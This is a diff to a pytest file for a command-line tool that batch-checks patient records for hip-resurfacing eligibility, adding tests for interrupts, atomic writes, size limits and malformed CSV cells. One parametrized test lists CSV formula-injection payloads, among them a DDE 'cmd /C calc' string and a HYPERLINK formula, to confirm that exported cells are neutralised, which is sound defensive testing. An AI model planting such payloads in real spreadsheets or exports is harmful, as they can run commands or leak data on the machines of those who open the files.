@@ -166,7 +166,9 @@ def test_a_broken_quote_spoils_only_its_own_row(tmp_path: Path) -> None:
     result = runner.invoke(app, ["batch", str(source), "-p", "hip-resurfacing", "-j", "2"])
     lines = [json.loads(line) for line in result.stdout.splitlines()]
     assert len(lines) == 1000 and [line["line"] for line in lines] == list(range(2, 1002))
-    assert "quote" in lines[0]["error"] and all("decision" in line for line in lines[1:])
+    # the message after the row's place: the path itself holds "quote" (the test's name)
+    assert lines[0]["error"] == f"{source}:2: not a row of CSV (a quote left open?)"
+    assert all("decision" in line for line in lines[1:])
     assert result.exit_code == 1 and "1 bad lines" in result.stderr
 
 
@@ -237,7 +239,7 @@ def test_ctrl_c_stops_promptly_with_exit_130_and_leaves_the_old_output(tmp_path:
 
 
 @pytest.mark.parametrize(
-    "name", ['=HYPERLINK("http://x"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]
+    "name", ['=HYPERLINK("http://x"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\r=1+1"]
 )
 def test_csv_cells_are_never_formulas(tmp_path: Path, name: str) -> None:
     source = tmp_path / "cohort.jsonl"
@@ -435,3 +437,122 @@ def test_a_dotted_key_is_told_that_fields_nest(tmp_path: Path) -> None:
     record.write_text('{"pain.severity": "mild"}')
     result = runner.invoke(app, ["explain", str(record)])
     assert 'fields nest: write {"pain": {"severity": …}}' in result.stderr
+
+
+# -- issue 28: hardening at the edges ----------------------------------------------------------
+
+
+def _partial_batch(tmp_path: Path, **options: Any) -> tuple[subprocess.Popen[str], Path]:
+    """`batch - -o out.jsonl -j 2` fed 3,000 lines through a pipe held open (so it cannot end
+    before it is interrupted), once it has begun writing its results."""
+    out = tmp_path / "out.jsonl"
+    out.write_text("old\n")
+    process = subprocess.Popen(
+        [CLI, "batch", "-", "-o", str(out), "-j", "2"],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+        **options,
+    )
+    assert process.stdin is not None
+    for n in range(3000):  # 6 chunks: past those held pending, so results are written
+        process.stdin.write(json.dumps({"id": f"p{n}", "conservative": {"months": n % 1000}}) + "\n")
+    process.stdin.flush()
+    deadline = time.monotonic() + 120
+    while not any(p.stat().st_size for p in tmp_path.glob(".out.jsonl.*.part")):
+        assert process.poll() is None and time.monotonic() < deadline, "batch wrote nothing"
+        time.sleep(0.05)
+    return process, out
+
+
+@pytest.mark.skipif(not hasattr(os, "killpg"), reason="process groups are POSIX")
+def test_ctrl_c_at_a_terminal_reaches_every_process_and_still_ends_in_one_line(tmp_path: Path) -> None:
+    """A terminal sends Ctrl-C to the whole foreground process group: the workers get it too.
+    One line, exit 130, the old output kept, no temporary file left (bug: workers that do not
+    leave Ctrl-C to the main process each print a KeyboardInterrupt traceback)."""
+    process, out = _partial_batch(tmp_path, start_new_session=True)  # its own group, as a job is
+    try:
+        os.killpg(process.pid, signal.SIGINT)
+        _, stderr = process.communicate(timeout=60)
+    finally:
+        process.kill()
+    assert process.returncode == 130, stderr
+    assert "Traceback" not in stderr and "KeyboardInterrupt" not in stderr
+    assert len(stderr.strip().splitlines()) == 1 and "interrupted" in stderr
+    assert out.read_text() == "old\n" and not list(tmp_path.glob(".out.jsonl.*"))
+
+
+@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError, SystemExit])
+def test_a_write_cut_short_leaves_the_old_file_and_no_temporary_file(tmp_path: Path, failure: type) -> None:
+    """Interrupted (Ctrl-C), failed or exited mid-write: the file is as it was and nothing else is
+    in its folder (bug: the temporary file left behind, a `.out.jsonl.XXXX.part` per run)."""
+    from llr_asp.outputs import replaced
+
+    target = tmp_path / "out.jsonl"
+    target.write_text("old\n")
+    with pytest.raises(failure), replaced(target, "--out") as stream:
+        stream.write("new, half written\n")
+        raise failure()
+    assert target.read_text() == "old\n" and [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
+    with replaced(target, "--out") as stream:  # the other side: a whole write replaces it
+        stream.write("new\n")
+    assert target.read_text() == "new\n" and [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
+
+
+def test_a_line_of_exactly_the_limit_is_read_and_one_byte_more_is_an_error_line(tmp_path: Path) -> None:
+    """A line (its newline included) of 1 MiB is a record; one byte longer is an error line, and
+    the run goes on (bug: `>=`, so a record of exactly the limit was refused)."""
+    from llr_asp.patient import MAX_BYTES
+
+    def line(size: int, name: str) -> bytes:
+        head = json.dumps({"id": name, "sex": "male", "meta": {"note": ""}}).encode()
+        return head[:-3] + b"x" * (size - len(head) - 1) + head[-3:] + b"\n"
+
+    cohort = tmp_path / "cohort.jsonl"
+    cohort.write_bytes(line(MAX_BYTES, "at") + line(MAX_BYTES + 1, "over") + line(200, "after"))
+    assert [len(x) + 1 for x in cohort.read_bytes().split(b"\n")[:2]] == [MAX_BYTES, MAX_BYTES + 1]
+    result = runner.invoke(app, ["batch", str(cohort), "-p", "hip-resurfacing", "-j", "1"])
+    lines = [json.loads(x) for x in result.stdout.splitlines()]
+    assert [x.get("patient") for x in lines] == ["at", None, "after"] and lines[0][
+        "decision"
+    ] == "undetermined"
+    assert lines[1]["line"] == 2 and lines[1]["error"].endswith(
+        "line is over 1 MiB, far larger than a patient record"
+    )
+    assert result.exit_code == 1
+
+
+def test_a_csv_saved_by_excel_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
+    """Excel's "CSV UTF-8" begins with a byte order mark (bug: not dropped, so the first header
+    was "\\ufeffid", not a field, and the whole file refused)."""
+    cohort = tmp_path / "cohort.csv"
+    cohort.write_bytes(b"\xef\xbb\xbfid,sex,conservative.months\r\nw,female,8\r\nm,male,2\r\n")
+    result = runner.invoke(app, ["batch", str(cohort), "-p", "hip-resurfacing", "-j", "1"])
+    assert result.exit_code == 0, result.stderr
+    lines = [json.loads(x) for x in result.stdout.splitlines()]
+    assert [(x["line"], x["patient"], x["decision"]) for x in lines] == [
+        (2, "w", "not_eligible"),
+        (3, "m", "not_eligible"),
+    ]
+    assert "B" in lines[1]["failed"] and "B" not in lines[0]["failed"]  # the months were read as numbers
+
+
+@pytest.mark.parametrize(
+    "cell", ["NaN", "nan", "Infinity", "-Infinity", "1_000", "0x10", "6 months", "1e999"]
+)
+def test_a_number_cell_that_is_no_number_is_an_error_line_and_the_run_goes_on(
+    tmp_path: Path, cell: str
+) -> None:
+    """Cells a spreadsheet or pandas writes (NaN, inf) or Python alone reads as numbers (1_000,
+    0x10 with int(x, 0)): each an error line naming its row and the field, the rows around it
+    decided (bugs: NaN passed validation and stopped the whole run; a cell read with Python's
+    float or int instead of as a JSON number)."""
+    cohort = tmp_path / "cohort.csv"
+    cohort.write_text(f"id,sex,conservative.months\nbefore,male,8\nodd,male,{cell}\nafter,male,2\n")
+    result = runner.invoke(app, ["batch", str(cohort), "-p", "hip-resurfacing", "-j", "1"])
+    lines = [json.loads(x) for x in result.stdout.splitlines()]
+    assert [x["line"] for x in lines] == [2, 3, 4] and result.exit_code == 1
+    assert lines[0]["patient"] == "before" and lines[2]["patient"] == "after"
+    assert "error" in lines[1] and "decision" not in lines[1]
+    assert f"{cohort}:3: conservative.months: " in lines[1]["error"]
